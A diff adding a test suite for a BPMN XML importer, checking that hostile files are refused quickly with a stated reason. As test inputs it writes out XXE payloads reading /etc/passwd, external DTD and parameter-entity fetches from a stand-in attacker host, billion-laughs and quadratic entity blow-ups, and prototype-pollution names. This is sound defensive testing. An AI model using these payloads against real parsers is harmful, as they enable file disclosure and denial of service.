@@ -1,0 +1,91 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { importBpmn, xmlLimits, xmlRefusals } from './index.ts'
+import { readXml, UnreadableXml } from './xml.ts'
+
+const head = '<?xml version="1.0" encoding="UTF-8"?>'
+const bpmn = (inside: string, more = '') => `<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" ${more}><process id="p">${inside}</process></definitions>`
+const flow = '<startEvent id="s"/><endEvent id="e"/><sequenceFlow id="f" sourceRef="s" targetRef="e"/>'
+
+/** Each takes milliseconds. Other work on the machine only ever makes it slower, so the best of some tries must stay below a second. */
+function refused(text: string) {
+  for (let at = 0; at < 4; at += 1) {
+    const begun = performance.now()
+    const read = importBpmn(text)
+    if (performance.now() - begun < 1_000) return read.ok ? 'read' : read.reason
+  }
+  return 'slow'
+}
+
+describe('a hostile file is refused at once, and says why', () => {
+  test.each<[string, () => string, string]>([
+    ['a document type', () => `${head}<!DOCTYPE definitions>${bpmn(flow)}`, 'doctype'],
+    ['an external entity', () => `${head}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>${bpmn('<startEvent id="s" name="&x;"/>')}`, 'doctype'],
+    ['an external document type', () => `${head}<!DOCTYPE d SYSTEM "http://evil.example/d.dtd">${bpmn(flow)}`, 'doctype'],
+    ['a parameter entity', () => `${head}<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>${bpmn(flow)}`, 'doctype'],
+    ['a billion laughs', () => `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${'abcdefghij'[at + 1]} "${`&${'abcdefghij'[at]};`.repeat(10)}">`).join('')}]>${bpmn('&j;')}`, 'doctype'],
+    ['an entity that nobody declared', () => bpmn('<startEvent id="s" name="&xxe;"/>'), 'malformed'],
+    ['a quadratic blow-up', () => `<!DOCTYPE l [<!ENTITY a "${'a'.repeat(50_000)}">]>${bpmn('&a;'.repeat(50_000))}`, 'doctype'],
+    ['a document type that is hidden behind the root', () => `${bpmn(flow)}<!DOCTYPE d>`, 'doctype'],
+    ['a hundred megabytes of attributes', () => `<definitions ${'a="b" '.repeat(17_500_000)}/>`, 'too_large'],
+    ['more attributes than an element can have', () => `<definitions ${Array.from({ length: 100_000 }, (_, at) => `a${at}="b"`).join(' ')}/>`, 'too_many'],
+    ['one attribute twice', () => '<definitions a="1" a="2"/>', 'malformed'],
+    ['one long attribute that does not end', () => `<definitions a="${'x'.repeat(3_900_000)}`, 'malformed'],
+    ['a hundred thousand elements in each other', () => `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`, 'too_deep'],
+    ['a hundred thousand elements beside each other', () => bpmn('<task/>'.repeat(100_000)), 'too_many'],
+    ['namespaces upon namespaces', () => Array.from({ length: 110 }, (_, at) => `<a${at} xmlns:n${at}="u${at}">`).join(''), 'too_many'],
+    ['thousands of comments that do not end', () => '<!--'.repeat(500_000), 'malformed'],
+    ['a million brackets', () => '<'.repeat(1_000_000), 'malformed'],
+    ['a million ampersands', () => bpmn('&'.repeat(1_000_000)), 'malformed'],
+    ['more steps than any flow has', () => bpmn(Array.from({ length: 700 }, (_, at) => `<task id="t${at}"/>`).join('')), 'too_many'],
+    ['more arrows than any flow has', () => bpmn(`${flow}${Array.from({ length: 20_000 }, (_, at) => `<sequenceFlow id="f${at}" name="n${at}" sourceRef="s" targetRef="e"/>`).join('')}`), 'too_many'],
+    ['a name from a space of its own that is not declared', () => bpmn('<evil:task id="t"/>'), 'malformed'],
+    ['another encoding', () => `<?xml version="1.0" encoding="windows-1251"?>${bpmn(flow)}`, 'encoding'],
+    ['signs that XML does not know', () => bpmn('<startEvent id="s" name="\u0000"/>'), 'malformed'],
+    ['a reference to such a sign', () => bpmn('<startEvent id="s" name="&#0;"/>'), 'malformed'],
+    ['a reference to half a sign', () => bpmn('<startEvent id="s" name="&#xD800;"/>'), 'malformed'],
+    ['a text that is no XML', () => 'MZ\u0090 this program cannot be run', 'malformed'],
+    ['nothing', () => '', 'malformed'],
+    ['a web page', () => '<html><body>502 Bad Gateway</body></html>', 'not_bpmn'],
+    ['a file of the older XPDL', () => '<Package xmlns="http://www.wfmc.org/2009/XPDL2.2"/>', 'not_bpmn'],
+    ['a flow in no namespace', () => '<definitions><process id="p"><task id="t"/></process></definitions>', 'not_bpmn'],
+    ['a file without a process', () => '<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>', 'no_process'],
+    ['a process without steps', () => bpmn(''), 'no_process'],
+    ['an end that ends something else', () => '<a><b></a></b>', 'malformed'],
+    ['two roots', () => `${bpmn(flow)}${bpmn(flow)}`, 'malformed'],
+  ])('%s', (_what, text, reason) => {
+    expect(refused(text())).toBe(reason)
+  })
+
+  test('every refusal is told with a line', () => {
+    expect(importBpmn(`${head}\n<definitions>\n<a>\n</b>`)).toEqual({ ok: false, reason: 'malformed', line: 4 })
+    expect(xmlRefusals).toContain(new UnreadableXml('too_deep').reason)
+  })
+})
+
+test('large files within the limits are read in no time that anybody notices', () => {
+  const wide = bpmn(`${flow}${'<textAnnotation id="t"><text>x</text></textAnnotation>'.repeat(20_000)}${'<association sourceRef="t" targetRef="t"/>'.repeat(15_000)}`)
+  expect(wide.length).toBeLessThan(xmlLimits.characters)
+  // Not a second, but a test that read in minutes what multiplied with itself would run out of its time here.
+  expect(importBpmn(wide).ok).toBe(true)
+})
+
+test('names that mean something to a program mean nothing here', () => {
+  const read = importBpmn(bpmn('<startEvent id="__proto__" name="constructor"/><userTask id="toString" name="__proto__"/><sequenceFlow id="valueOf" sourceRef="__proto__" targetRef="toString"/>'))
+  expect(read.ok && read.diagram.nodes.map(({ id, data }) => `${id} ${data.label}`)).toEqual(['__proto__ constructor', 'toString __proto__', 'toString:reviewed Хянасан'].slice(0, 2))
+  expect(Object.prototype).not.toHaveProperty('polluted')
+})
+
+test('text, entities, comments and sections are read as they are meant', () => {
+  const root = readXml('<?xml version="1.0"?><!-- a --><r xmlns:x="u" a=\'&lt;"&#x44F;&#10;\' x:b="c\td"><![CDATA[<&>]]> &amp; <i/>tail</r>\n<?end?>')
+  expect([root.name, root.text, ...root.attributes]).toEqual(['r', '<&> & tail', ['a', '<"я\n'], ['{u}b', 'c d']])
+  expect(root.children.map(({ name }) => name)).toEqual(['i'])
+})
+
+test('whatever the text, there is an answer and never a crash', () => {
+  const piece = fc.constantFrom('<', '>', '</', '/>', '<!--', '-->', '<![CDATA[', ']]>', '<?xml ', '?>', '&', '&lt;', ';', '"', '=', ' ', 'a', 'x:', 'xmlns="u"', '<a>', '</a>', 'process', '\n', 'é', bpmn(flow), '<!DOCTYPE', '[')
+  fc.assert(fc.property(fc.oneof(fc.string(), fc.array(piece, { maxLength: 30 }).map((parts) => parts.join(''))), (text) => {
+    const read = importBpmn(text)
+    expect(read.ok || xmlRefusals.includes(read.reason)).toBe(true)
+  }), { numRuns: 2_000 })
+})
